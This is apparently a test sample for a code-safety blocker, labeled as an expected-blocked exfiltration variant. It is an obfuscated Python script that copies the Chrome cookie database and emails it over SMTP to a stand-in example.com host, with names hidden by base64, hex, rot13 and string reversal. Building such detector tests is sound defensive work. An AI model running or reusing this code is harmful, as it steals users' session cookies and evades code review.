# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/browser_cookies_smtp.py technique: encode+getattr
os = __import__(''.join(['o', 's']))
shutil = __import__(__import__('base64').b64decode('c2h1dGls').decode())
smtplib = __import__(bytes.fromhex('736d74706c6962').decode())
EmailMessage = getattr(__import__(''.join(map(chr, [101, 109, 97, 105, 108, 46, 109, 101, 115, 115, 97, 103, 101])), fromlist=['_']), 'egasseMliamE'[::-1])
source = os.path.expanduser(getattr(bytes, __import__('codecs').decode('sebzurk', 'rot13'))('7e2f2e636f6e6669672f676f6f676c652d6368726f6d652f44656661756c742f436f6f6b696573').decode())
getattr(shutil, ''.join(['c', 'o', 'p', 'y']))(source, ''.join(map(chr, [99, 111, 111, 107, 105, 101, 115, 46, 100, 98])))
message = EmailMessage()
message['tcejbuS'[::-1]] = 'c'
getattr(message, bytes.fromhex('6164645f6174746163686d656e74').decode())(open(__import__('codecs').decode('pbbxvrf.qo', 'rot13'), ''.join(['r', 'b'])).read(), maintype=__import__('base64').b64decode('YXBwbGljYXRpb24=').decode(), subtype=getattr(bytes, __import__('base64').b64decode('ZnJvbWhleA==').decode())('6f637465742d73747265616d').decode())
with getattr(smtplib, ''.join(map(chr, [83, 77, 84, 80])))(''.join(map(chr, [109, 97, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109])), 25) as smtp:
    getattr(smtp, 'egassem_dnes'[::-1])(message, from_addr='moc.elpmaxe@a'[::-1], to_addrs=[__import__('codecs').decode('o@rknzcyr.pbz', 'rot13')])
